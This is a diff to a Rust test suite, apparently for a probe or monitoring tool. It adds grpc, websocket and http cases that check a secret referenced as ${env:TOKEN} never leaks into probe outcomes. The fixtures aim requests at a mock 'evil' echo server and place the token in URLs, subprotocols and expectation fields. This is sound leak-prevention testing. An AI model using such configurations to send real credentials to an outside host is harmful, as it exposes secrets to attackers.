@@ -299,6 +299,11 @@ async fn no_secret_is_in_any_part_of_an_outcome() {
         ("heartbeat", "{token: \"${env:TOKEN}\"}".to_owned()),
         ("prometheus", format!("{{url: \"{}?k=${{env:TOKEN}}\", authorization: {{credentials: \"${{env:TOKEN}}\"}}}}", evil.url("/echo"))),
         ("prometheus", format!("{{url: \"http://user:resolved-TOKEN@{}/${{env:TOKEN}}\", params: {{k: \"${{env:TOKEN}}\"}}}}", evil.at)),
+        ("grpc", format!("{{host: \"{}\", service: \"${{env:TOKEN}}\", authority: \"${{env:TOKEN}}\"}}", evil.at)),
+        ("websocket", format!("{{url: \"{}\", subprotocols: [\"${{env:TOKEN}}\"]}}", evil.url("/echo").replace("http", "ws"))),
+        ("http", format!("{{url: \"{}\", expect: {{status: 500, body: {{not_contains: \"${{env:TOKEN}}\"}}}}}}", evil.url("/echo"))),
+        ("http", format!("{{url: \"{}\", expect: {{header: {{X-Sent: \"/^${{env:TOKEN}}/\"}}}}}}", evil.url("/echo"))),
+        ("http", format!("{{url: \"{}\", expect: {{title: \"${{env:TOKEN}}\", json: {{$.a: \"${{env:TOKEN}}\"}}}}}}", evil.url("/echo"))),
     ] {
         let probe = probe(kind, &text);
         assert!(!format!("{probe:?}").contains("resolved-TOKEN"), "{probe:?}");
